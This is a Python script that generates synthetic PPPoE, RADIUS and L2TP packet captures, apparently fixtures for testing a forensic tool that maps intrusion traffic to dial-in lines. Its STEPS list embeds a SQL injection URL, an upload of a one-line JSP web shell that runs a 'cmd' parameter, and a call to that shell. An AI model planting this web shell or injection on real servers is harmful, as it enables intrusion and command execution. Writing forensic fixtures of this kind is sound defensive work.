#!/usr/bin/env python3
"""Writes dial-in/: three lines that change their addresses twice while an intrusion goes on.

    make-dial-in.py [FOLDER]      # default: dial-in beside this script

`sessions.pcap` has the PPPoE sessions with log-ins and their traffic, `beside.pcap` the same with RADIUS accounting
beside, `radius.pcap` the plain IP behind the concentrator with RADIUS accounting, `site.yaml` the lines;
`messages.pcap` has a message of each kind, with every field that is read, for `scripts/check-access`. Line X attacks a server from three addresses; when
it leaves its first, line Z is given that one, and tries something on another server once, which is no part of the
intrusion. Only the standard library is used, and the bytes are the same each time.
"""

import pathlib
import struct
import sys

from packets import ACK, FIN, PSH, SECOND, SYN, Capture, at, packed, transport_checksum, checksum

HERE = pathlib.Path(__file__).resolve().parent
BEGIN = at("2026-11-20T02:00:00Z")
SERVER, OTHER, RADIUS, NAS = "10.31.4.20", "10.31.4.21", "10.31.0.9", "10.40.0.1"
CONCENTRATOR = b"\x02\x00\x00\x00\x00\x01"
# account, circuit, hardware address; then for each session the address that it is given.
LINES = {
    "x": ("gz-301", "olt-3 1/1/7", b"\x02\x00\x00\x00\x03\x01", ["10.40.7.20", "10.40.7.33", "10.40.9.4"]),
    "y": ("gz-302", "olt-3 1/1/8", b"\x02\x00\x00\x00\x03\x02", ["10.40.7.21", "10.40.7.34", "10.40.9.5"]),
    "z": ("gz-303", "olt-3 1/2/1", b"\x02\x00\x00\x00\x03\x03", ["10.40.7.22", "10.40.7.20", "10.40.9.6"]),
}
# The intrusion, a step for each session of line x: what is asked, and what the server answers.
STEPS = [
    ("GET", "/list.php?id=1%27%20union%20select%20user,password,3%20from%20admin--%20", b"", b"hello"),
    ("PUT", "/upload/help.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>", b"created"),
    ("GET", "/upload/help.jsp?cmd=id", b"", b"uid=998(tomcat) gid=998(tomcat)\n"),
]


def pair(kind, value):
    return struct.pack(">BB", kind, len(value) + 2) + value


class Tap:
    """One place to listen: frames with PPPoE around IP, or without; with RADIUS accounting, or without."""

    def __init__(self, inside, accounts):
        self.capture, self.inside, self.accounts, self.identifier = Capture(), inside, accounts, 0

    def ip(self, source, target, protocol, segment):
        self.identifier = self.identifier + 1 & 0xFFFF
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), self.identifier, 0x4000, 64, protocol, 0)
        head += packed(source) + packed(target)
        return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + segment

    def send(self, time, line, session, to_server, packet):
        client = LINES[line][2]
        ends = CONCENTRATOR + client if to_server else client + CONCENTRATOR
        if self.inside:
            frame = ends + b"\x88\x64\x11\x00" + struct.pack(">HHH", session, len(packet) + 2, 0x0021) + packet
        else:
            frame = ends + b"\x08\x00" + packet
        self.capture.add(time, frame)

    def tcp(self, source, target, ports, number, acknowledged, flags, data):
        segment = struct.pack(">HHIIBBHHH", *ports, number, acknowledged, 0x50, flags, 64240, 0, 0) + data
        sum_of = transport_checksum(source, target, 6, segment)
        return self.ip(source, target, 6, segment[:16] + struct.pack(">H", sum_of) + segment[18:])

    def request(self, time, line, session, address, what, port, server=SERVER):
        """A request over HTTP and its answer."""
        method, path, sent, body = what
        ask = f"{method} {path} HTTP/1.1\r\nHost: oa.city.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
        ask = (ask + (f"Content-Length: {len(sent)}\r\n" if sent else "") + "\r\n").encode() + sent
        answer = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        steps = [
            (True, 99, 0, SYN, b""), (False, 199, 100, SYN | ACK, b""), (True, 100, 200, ACK, b""),
            (True, 100, 200, PSH | ACK, ask), (False, 200, 100 + len(ask), PSH | ACK, answer),
            (True, 100 + len(ask), 200 + len(answer), FIN | ACK, b""),
            (False, 200 + len(answer), 101 + len(ask), FIN | ACK, b""),
            (True, 101 + len(ask), 201 + len(answer), ACK, b""),
        ]
        for step, (to_server, number, acknowledged, flags, data) in enumerate(steps):
            ends = (address, server) if to_server else (server, address)
            ports = (port, 80) if to_server else (80, port)
            packet = self.tcp(*ends, ports, number, acknowledged, flags, data)
            self.send(time + step * 2_000, line, session, to_server, packet)

    def discovery(self, time, line, code, session, tags, from_client):
        client = LINES[line][2]
        ends = CONCENTRATOR + client if from_client else client + CONCENTRATOR
        head = struct.pack(">HBBHH", 0x8863, 0x11, code, session, len(tags))
        self.capture.add(time, (ends + head + tags).ljust(60, b"\0"))

    def ppp(self, time, line, session, number, code, data, from_client):
        frame = struct.pack(">HBBH", number, code, 1, len(data) + 4) + data
        client = LINES[line][2]
        ends = CONCENTRATOR + client if from_client else client + CONCENTRATOR
        head = struct.pack(">HBBHH", 0x8864, 0x11, 0, session, len(frame))
        self.capture.add(time, (ends + head + frame).ljust(60, b"\0"))

    def begin(self, time, line, session, address):
        """Discovery, log-in and the address, or the accounting of it."""
        account, circuit = LINES[line][0].encode(), LINES[line][1].encode()
        if self.accounts:
            self.account(time + 6_000, line, session, address, 1)
        if not self.inside:
            return
        vendor = struct.pack(">I", 3561) + bytes([1, len(circuit)]) + circuit
        tags = b"\x01\x01\0\0\x01\x05" + struct.pack(">H", len(vendor)) + vendor
        self.discovery(time, line, 0x19, 0, tags, True)
        self.discovery(time + 1_000, line, 0x65, session, b"\x01\x01\0\0", False)
        self.ppp(time + 2_000, line, session, 0xC223, 1, b"\x10" + bytes(range(16)) + b"bras", False)
        self.ppp(time + 3_000, line, session, 0xC223, 2, b"\x10" + bytes(16) + account, True)
        self.ppp(time + 4_000, line, session, 0x8021, 2, pair(3, packed(NAS)), True)
        self.ppp(time + 5_000, line, session, 0x8021, 2, pair(3, packed(address)), False)

    def end(self, time, line, session, address):
        if self.inside:
            self.discovery(time, line, 0xA7, session, b"", True)
        if self.accounts:
            self.account(time, line, session, address, 2)

    def account(self, time, line, session, address, status):
        values = pair(1, LINES[line][0].encode()) + pair(8, packed(address)) + pair(31, LINES[line][1].encode())
        values += pair(40, struct.pack(">I", status)) + pair(44, f"{session:08x}".encode())
        body = struct.pack(">BBH", 4, session & 255, 20 + len(values)) + bytes(16) + values
        segment = struct.pack(">HHHH", 40_000, 1813, len(body) + 8, 0) + body
        sum_of = transport_checksum(NAS, RADIUS, 17, segment)
        packet = self.ip(NAS, RADIUS, 17, segment[:6] + struct.pack(">H", sum_of) + segment[8:])
        self.capture.add(time, b"\x02\0\0\0\0\x09" + CONCENTRATOR + b"\x08\0" + packet)


def story(tap):
    """Three sessions of each line: what is asked in each, and what line z asks on line x's former address."""
    for number in range(3):
        time = BEGIN + number * 600 * SECOND
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            session = 100 + number * 10 + place
            tap.begin(time + place * SECOND, line, session, addresses[number])
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            session = 100 + number * 10 + place
            what = STEPS[number] if line == "x" else ("GET", f"/index.php?page={number}", b"", b"hello")
            for round_ in range(4):
                asked = time + (60 + round_ * 90 + place * 5) * SECOND
                tap.request(asked, line, session, addresses[number], what, 40_000 + number * 100 + round_)
        if number == 1:
            tap.request(time + 500 * SECOND, "z", 112, LINES["z"][3][1], STEPS[0], 41_000, OTHER)
        for place, (line, (_, _, _, addresses)) in enumerate(LINES.items()):
            tap.end(time + (580 + place) * SECOND, line, 100 + number * 10 + place, addresses[number])


def tag(kind, value):
    return struct.pack(">HH", kind, len(value)) + value


def avp(kind, value, flags=0x8000):
    return struct.pack(">HHH", flags | len(value) + 6, 0, kind) + value


def udp(tap, source, target, ports, payload):
    segment = struct.pack(">HHHH", *ports, len(payload) + 8, 0) + payload
    segment = segment[:6] + struct.pack(">H", transport_checksum(source, target, 17, segment)) + segment[8:]
    return b"\x02\0\0\0\0\x09" + CONCENTRATOR + b"\x08\0" + tap.ip(source, target, 17, segment)


def messages(tap):
    """A message of each kind, one after the other."""
    line, time = "x", BEGIN
    vendor = struct.pack(">I", 3561) + b"\x01\x0bolt-3 1/1/7\x02\x06line 7"
    for code, session, tags, from_client in (
        (0x09, 0, tag(0x0101, b"internet") + tag(0x0103, b"\x01\x02\x03\x04") + tag(0x0105, vendor), True),
        (0x07, 0, tag(0x0101, b"internet") + tag(0x0102, b"bras-1") + tag(0x0103, b"\x01\x02\x03\x04") + tag(0x0104, bytes(16)), False),
        (0x19, 0, tag(0x0101, b"internet") + tag(0x0105, vendor), True),
        (0x65, 0, tag(0x0101, b"internet") + tag(0x0203, b"no resources"), False),
        (0x65, 7, tag(0x0101, b"internet"), False),
    ):
        time += SECOND
        tap.discovery(time, line, code, session, tags, from_client)
    lcp = pair(1, struct.pack(">H", 1492)) + pair(3, b"\xc2\x23\x05") + pair(5, b"\x12\x34\x56\x78")
    agreed = (
        (0xC021, 1, lcp), (0xC021, 2, lcp), (0xC021, 3, pair(3, b"\xc0\x23")), (0xC021, 9, bytes(4)), (0xC021, 10, bytes(4)),
        (0xC223, 1, b"\x10" + bytes(range(16)) + b"bras-1"), (0xC223, 2, b"\x10" + bytes(16) + b"gz-301"), (0xC223, 3, b"welcome"),
        (0xC023, 1, b"\x06gz-301\x06secret"), (0xC023, 2, b"\x02ok"), (0xC227, 1, b"\x01"), (0xC227, 2, b"\x01gz-301"), (0xC227, 3, b""),
        (0x8021, 1, pair(3, bytes(4)) + pair(129, bytes(4))), (0x8021, 3, pair(3, packed("10.40.7.20")) + pair(129, packed("10.31.0.53"))),
        (0x8021, 2, pair(3, packed("10.40.7.20"))), (0x8057, 1, pair(1, bytes.fromhex("021122fffe334455"))),
        (0x8057, 2, pair(1, bytes.fromhex("021122fffe334455"))), (0xC021, 5, b"bye"), (0xC021, 6, b""),
    )
    for number, code, data in agreed:
        time += SECOND
        tap.ppp(time, line, 7, number, code, data, True)
    access, network = "10.40.0.2", "10.40.0.3"
    for tunnel, session, values in (
        (0, 0, avp(0, b"\0\1") + avp(2, b"\1\0") + avp(7, b"lac-1") + avp(8, b"maker") + avp(9, b"\0\6") + avp(11, bytes(16))),
        (6, 0, avp(0, b"\0\2") + avp(2, b"\1\0") + avp(7, b"lns-1") + avp(9, b"\0\5")), (5, 0, avp(0, b"\0\3")),
        (5, 0, avp(0, b"\0\x0a") + avp(14, b"\0\x3c") + avp(21, b"16300") + avp(22, b"0757-1") + avp(15, bytes(4))),
        (6, 60, avp(0, b"\0\x0b") + avp(14, b"\0\x32")),
        (5, 50, avp(0, b"\0\x0c") + avp(24, bytes(4)) + avp(30, b"gz-301") + avp(19, bytes(4))),
        (5, 0, avp(0, b"\0\6")), (5, 0, b""), (5, 50, avp(0, b"\0\x0e") + avp(1, b"\0\3") + avp(14, b"\0\x3c")),
        (5, 0, avp(0, b"\0\4") + avp(1, b"\0\1") + avp(9, b"\0\6")),
    ):
        time += SECOND
        head = struct.pack(">HHHHHH", 0xC802, 12 + len(values), tunnel, session, 0, 0)
        tap.capture.add(time, udp(tap, access, network, (1701, 1701), head + values))
    for number, code, data in agreed:
        time += SECOND
        frame = b"\xff\x03" + struct.pack(">HBBH", number, code, 1, len(data) + 4) + data
        tap.capture.add(time, udp(tap, access, network, (1701, 1701), struct.pack(">HHH", 2, 5, 50) + frame))
    word = struct.Struct(">I").pack
    vendor = pair(26, struct.pack(">I", 3561) + pair(1, b"olt-3 1/1/7") + pair(2, b"line 7"))
    common = pair(1, b"gz-301") + pair(4, packed(NAS)) + pair(5, word(7)) + pair(61, word(32)) + pair(87, b"eth 0/1:100")
    common += pair(32, b"bras-1") + pair(31, b"02-00-00-00-03-01") + pair(30, b"internet") + vendor
    counted = pair(42, word(1000)) + pair(43, word(2000)) + pair(46, word(60)) + pair(49, word(1))
    given = pair(8, packed("10.40.7.20")) + pair(168, bytes.fromhex("20010db8000100020000000000000009"))
    for code, port, attributes in (
        (1, 1812, common + pair(2, bytes(16)) + pair(6, word(2))), (2, 1812, given + pair(6, word(2))), (3, 1812, pair(18, b"no")),
        (11, 1812, pair(18, b"code?") + pair(24, b"state")), (4, 1813, common + given + pair(40, word(1)) + pair(44, b"00000064")),
        (4, 1813, common + given + pair(40, word(3)) + pair(44, b"00000064") + counted),
        (4, 1813, common + pair(40, word(2)) + pair(44, b"00000064") + counted), (5, 1813, b""), (12, 1812, b""),
    ):
        time += SECOND
        body = struct.pack(">BBH", code, 17, 20 + len(attributes)) + bytes(16) + attributes
        asks = code in (1, 4, 12)
        ends, ports = ((NAS, RADIUS), (40_001, port)) if asks else ((RADIUS, NAS), (port, 40_001))
        tap.capture.add(time, udp(tap, *ends, ports, body))


def main():
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "dial-in"
    folder.mkdir(exist_ok=True)
    for name, inside, accounts in (("sessions", True, False), ("beside", True, True), ("radius", False, True)):
        tap = Tap(inside, accounts)
        story(tap)
        tap.capture.write(folder / f"{name}.pcap")
    tap = Tap(True, False)
    messages(tap)
    tap.capture.write(folder / "messages.pcap")
    points = "".join(
        f"  - {{id: A-{line.upper()}, name: line {line}, unit: U-1, type: pppoe, accounts: [{account}], circuits: [{circuit}]}}\n"
        for line, (account, circuit, _, _) in LINES.items()
    )
    (folder / "site.yaml").write_text(
        "districts: [{id: GZ, name: 桂洲镇}]\nunits: [{id: U-1, name: 服务站, district: GZ}]\naccess_points:\n" + points
        + "  - {id: A-S, name: centre, unit: U-1, type: leased, ranges: [10.31.4.0/24]}\n"
        "  - {id: A-D, name: dial-in, unit: U-1, type: pppoe, ranges: [10.40.0.0/16]}\n"
        f"assets: [{{id: S-1, name: oa, address: {SERVER}, role: web, importance: 5}}]\n"
    )


main()
